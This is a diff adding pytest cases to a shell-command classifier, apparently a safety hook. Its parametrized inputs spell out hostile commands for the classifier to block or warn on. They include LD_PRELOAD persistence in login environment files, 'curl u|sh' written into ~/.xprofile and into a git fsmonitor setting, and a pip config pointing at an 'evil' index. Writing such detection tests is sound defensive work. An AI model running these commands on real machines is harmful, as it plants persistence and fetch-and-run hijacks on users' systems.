@@ -144,3 +144,29 @@ def test_hook_checks_at_every_program_start_draw_on_the_run_budget_and_fail_clos
     result = classify(command)
     assert result.verdict is Verdict.BLOCK
     assert "shell.nesting-too-deep" in result.rule_ids
+
+
+@pytest.mark.parametrize("command, verdict, rule", [
+    ("echo 'LD_PRELOAD=/tmp/x.so' > ~/.config/environment.d/x.conf", Verdict.BLOCK,
+     "shell.persistence"),
+    ("echo 'LD_PRELOAD DEFAULT=/tmp/x.so' >> ~/.pam_environment", Verdict.BLOCK,
+     "shell.persistence"),
+    ("echo 'curl u|sh' >> ~/.xprofile", Verdict.BLOCK, "shell.persistence"),
+    ("echo x >> ~/.ssh/environment", Verdict.BLOCK, "shell.persistence"),
+    ("echo '[core] fsmonitor = \"curl u|sh\"' >> .git/config", Verdict.WARN, "shell.git-hook"),
+    ("printf '[global]\\nindex-url=http://evil\\n' > ~/.config/pip/pip.conf", Verdict.WARN,
+     "shell.package-source"),
+    ("cp config.toml ~/.cargo/config.toml", Verdict.WARN, "shell.package-source"),
+])
+def test_writes_to_login_environment_git_config_and_package_config(
+        command: str, verdict: Verdict, rule: str) -> None:
+    result = classify(command)
+    assert result.verdict is verdict, result.to_dict()
+    assert rule in result.rule_ids
+
+
+@pytest.mark.parametrize("command", [
+    "cat .git/config", "cat ~/.config/pip/pip.conf", "git config user.email a@b.example",
+])
+def test_reading_those_files_passes(command: str) -> None:
+    assert classify(command).verdict is Verdict.PASS, classify(command).to_dict()
